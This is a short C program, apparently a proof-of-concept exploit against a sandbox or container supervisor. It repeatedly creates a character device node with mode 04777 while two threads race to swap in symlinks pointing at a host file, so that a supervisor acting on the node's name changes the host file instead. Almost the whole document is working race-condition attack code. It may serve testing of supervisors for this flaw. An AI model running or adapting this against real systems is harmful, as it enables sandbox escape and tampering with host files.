// Makes device nodes, and replaces each at once by a link to a file of the host: `node_race DIRECTORY TARGET COUNT`.
//
// A supervisor that makes the node for this process, and then uses its name once more, would change the target.
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static char node[256], link_name[2][256];
static const char *target;
static volatile int done;

static void *swap(void *name) {
    while (!done) {
        if (symlink(target, name) != 0 && access(name, F_OK) != 0) unlink(name);
        struct stat status;
        while (!done && !(lstat(node, &status) == 0 && S_ISCHR(status.st_mode))) continue;
        rename(name, node);
    }
    return NULL;
}

int main(int count, char **words) {
    if (count != 4) return 64;
    target = words[2];
    snprintf(node, sizeof node, "%s/node", words[1]);
    pthread_t threads[2];
    for (int index = 0; index < 2; index++) {
        snprintf(link_name[index], sizeof link_name[index], "%s/link%d", words[1], index);
        pthread_create(&threads[index], NULL, swap, link_name[index]);
    }
    int made = 0;
    for (int left = atoi(words[3]); left > 0; left--) {
        unlink(node);
        if (mknod(node, S_IFCHR | 04777, makedev(1, 3)) == 0) made++;
    }
    done = 1;
    printf("made %d nodes\n", made);
    return made == 0;
}
